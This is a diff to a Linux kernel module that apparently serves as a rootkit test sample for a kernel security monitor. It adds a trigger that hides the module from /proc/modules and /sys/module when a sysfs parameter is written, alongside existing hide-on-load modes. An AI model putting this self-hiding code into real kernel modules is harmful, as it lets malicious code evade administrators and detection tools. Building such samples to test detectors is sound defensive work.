@@ -7,6 +7,7 @@
 //   mode 2: list_del + kobject_del(&THIS_MODULE->mkobj.kobj): gone from /proc/modules and /sys/module
 //   mode 3: state = MODULE_STATE_UNFORMED: /proc/modules' show() skips it, the list entry stays (what a
 //           filter on /proc/modules reads looks like); needs delay_ms (do_init_module sets LIVE after init)
+//   delay_ms < 0: hide on command, when 1 is written to /sys/module/<name>/parameters/hide_now (modes 1, 3)
 //   fw 1:   request_firmware("krsi-test.bin") delay_ms after load, its result in the fw_result parameter
 #include <linux/module.h>
 #include <linux/list.h>
@@ -41,6 +42,15 @@ static void hide(void)
 	}
 }
 
+/* "on command": a write to the hide_now parameter */
+static int set_hide_now(const char *val, const struct kernel_param *kp)
+{
+	hide();
+	return 0;
+}
+static const struct kernel_param_ops hide_now_ops = { .set = set_hide_now };
+module_param_cb(hide_now, &hide_now_ops, NULL, 0200);
+
 static void later(struct work_struct *w)
 {
 	if (fw) {
@@ -56,8 +66,8 @@ static int __init krsi_rk_init(void)
 	INIT_DELAYED_WORK(&work, later);
 	if (delay_ms > 0)
 		schedule_delayed_work(&work, msecs_to_jiffies(delay_ms));
-	else
-		hide();
+	else if (delay_ms == 0)
+		hide();   /* in init, as rootkits do; < 0: on command */
 	return 0;
 }
 
